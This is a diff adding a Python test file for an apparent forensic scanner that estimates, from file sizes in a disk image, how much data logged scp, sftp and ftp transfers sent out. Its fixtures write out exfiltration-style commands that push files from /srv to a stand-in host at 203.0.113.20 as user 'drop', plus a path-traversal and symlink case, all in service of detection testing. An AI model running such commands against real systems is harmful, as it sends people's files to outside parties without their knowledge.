@@ -1,0 +1,146 @@
+"""--root: what the image has of files that commands name to be sent."""
+import os
+
+import harness
+from harness import check, has, lacks, run, test, write
+from story import Story
+
+MIB = 1 << 20
+
+
+def image(command, *, tool=None, script=None, writes=None):
+    """A log that has execs and connections; `writes`: of another program, bytes as well."""
+    write("image/etc/hostname", "etl-01\n")
+    write("image/etc/passwd", "root:x:0:0::/root:/bin/sh\n")
+    story = Story()
+    job = story.cron_job(script or command).fork(702).exec(tool or "/usr/bin/scp", *command.split())
+    job.connect(5, "203.0.113.20", 22)
+    if writes:
+        story.cron_job("other", pid=800).fork(802).exec("/usr/bin/other", "other").upload(5, "203.0.113.9", 443, writes)
+    write("image/var/log/audit/audit.log", story.text())
+
+
+def sized(path, size, changed=1796000000):
+    file = write("image" + path, "")
+    os.truncate(file, size)
+    os.utime(file, (changed, changed))
+    return file
+
+
+def fact(*args):
+    return [row for row in run("transfers", "--root", "image", *args).rows()
+            if row.get("tool") != "other" and row["type"] == "transfer"][0]
+
+
+def rules(code=1, *args):
+    rows = run("scan", "--root", "image", "--format", "jsonl", *args, code=code).rows()
+    return {row["rule"]: row for row in rows if row["type"] == "finding"}
+
+
+@test("--root: a transfer without bytes in the log is estimated by the files that it names")
+def _():
+    image("scp -q /srv/a /srv/b /srv/gone drop@203.0.113.20:up/")
+    sized("/srv/a", 200 * MIB)
+    sized("/srv/b", 5, changed=1900000000)
+    row = fact()
+    to = row["destinations"][0]
+    check(to["bytes_out"] == 200 * MIB + 5 == to["bytes_estimated"] == row["bytes_out"], "sum", to)
+    check(to["basis"] == row["basis"] == "estimated", "basis", to)
+    check("2 files named in the command are 200.0 MiB in the image; 2 of 3 named are there; one "
+          "changed after the transfer" in row["notes"], "note", row["notes"])
+    named = {e["file"]: e["what"] for e in row["evidence"] if e["line"] == 0}
+    check(named == {"/srv/a": f"{200 * MIB} bytes in the image; changed 2026-11-30T00:53:20.000Z",
+                    "/srv/b": "5 bytes in the image; changed 2030-03-17T17:46:40.000Z"}, "evidence",
+          named)
+
+
+@test("--root: no limit is held against an estimate but by rules that say so")
+def _():
+    image("scp -q /srv/a drop@203.0.113.20:up/")
+    sized("/srv/a", 200 * MIB)
+    found = rules()
+    check(set(found) == {"bulk-estimated", "unmeasured"}, "rules", found)
+    check(found["bulk-estimated"]["severity"] == "medium", "severity", found)
+    check(found["bulk-estimated"]["bytes_out"] == 200 * MIB, "sum", found)
+    check(found["bulk-estimated"]["basis"] == "estimated", "basis", found)
+    check("it is what the image has of what was to be sent: nothing shows that it left" in
+          found["bulk-estimated"]["reasons"], "reasons", found)
+    check("the log cannot give the volume; by the image it may be 200.0 MiB, which nothing shows to "
+          "have left" in found["unmeasured"]["reasons"], "reasons", found)
+    has(run("scan", "--root", "image", code=1).out, "~ 200.0 MiB", "1 unmeasured")
+
+
+@test("--root: scan and judge say the same of estimates")
+def _():
+    image("scp -q /srv/a drop@203.0.113.20:up/")
+    sized("/srv/a", 200 * MIB)
+    facts = run("transfers", "--root", "image")
+    write("facts.jsonl", facts.out)
+    judged = run("judge", "facts.jsonl", "--format", "jsonl", code=1).rows()
+    scanned = run("scan", "--root", "image", "--format", "jsonl", code=1).rows()
+    check([r for r in judged if r["type"] == "finding"] ==
+          [r for r in scanned if r["type"] == "finding"], "findings", judged, scanned)
+
+
+@test("--root: an estimate never makes a transfer smaller or clean")
+def _():
+    image("scp -q /srv/a drop@203.0.113.20:up/")
+    for size in (None, 0, 7):
+        if size is not None:
+            sized("/srv/a", size)
+        found = rules()
+        check("unmeasured" in found, "still told", size, found)
+        check(fact()["bytes_out"] == (size or None), "no number of nothing", size)
+
+
+@test("--root: where the log has bytes, the image tells nothing beside them")
+def _():
+    image("scp -q /srv/a drop@203.0.113.20:up/", writes=3 * MIB)
+    sized("/srv/a", 200 * MIB)
+    row = fact()
+    check(row["bytes_out"] != 200 * MIB and row["basis"] != "estimated", "no estimate", row)
+    check("1 file named in the command is 200.0 MiB in the image" in row["notes"], "but a note", row)
+    check("bulk-estimated" not in rules(), "rules")
+
+
+@test("--root: names lead nowhere out of the image")
+def _():
+    image("scp -q ../../../../outside/big /srv/link /srv/fifo drop@203.0.113.20:up/")
+    (harness.WORK / "outside").mkdir()
+    os.truncate(os.open(harness.WORK / "outside/big", os.O_CREAT | os.O_WRONLY), 500 * MIB)
+    (harness.WORK / "image/srv").mkdir()
+    os.symlink(harness.WORK / "outside/big", harness.WORK / "image/srv/link")
+    os.mkfifo(harness.WORK / "image/srv/fifo")
+    row = fact()
+    check(row["bytes_out"] is None, "no bytes", row)
+    check("none of the 3 that the command names to be sent is in the image" in row["notes"], "note",
+          row["notes"])
+
+
+@test("--root: a file of commands of a gigabyte, and a planted size")
+def _():
+    image("sftp -b /srv/put drop@203.0.113.20", tool="/usr/bin/sftp")
+    path = write("image/srv/put", "put /srv/a\n" * 3)
+    os.truncate(path, 1 << 30)
+    sized("/srv/a", 1 << 42)
+    row = fact()
+    check(row["bytes_out"] == 3 << 42, "three times what is claimed", row)
+    check(any("not all could be looked at" in note for note in row["notes"]), "note", row["notes"])
+    check(set(rules()) == {"bulk-estimated", "unmeasured"}, "rules")
+
+
+@test("--root: a here-document's puts, of the script that ran")
+def _():
+    image("ftp -n 203.0.113.20", tool="/usr/bin/ftp", script="ftp -n 203.0.113.20 < /srv/cmds")
+    write("image/srv/cmds", "user a b\nput /srv/a x\n")
+    sized("/srv/a", 3 * MIB)
+    check(fact()["bytes_out"] == 3 * MIB, "by the redirection", fact())
+
+
+@test("explain: files of the image stand among the evidence, without a line")
+def _():
+    image("scp -q /srv/a drop@203.0.113.20:up/")
+    sized("/srv/a", 200 * MIB)
+    out = run("explain", fact()["id"], "--root", "image").out
+    has(out, f"/srv/a {200 * MIB} bytes in the image; changed 2026-11-30T00:53:20.000Z")
+    lacks(out, "/srv/a:0")
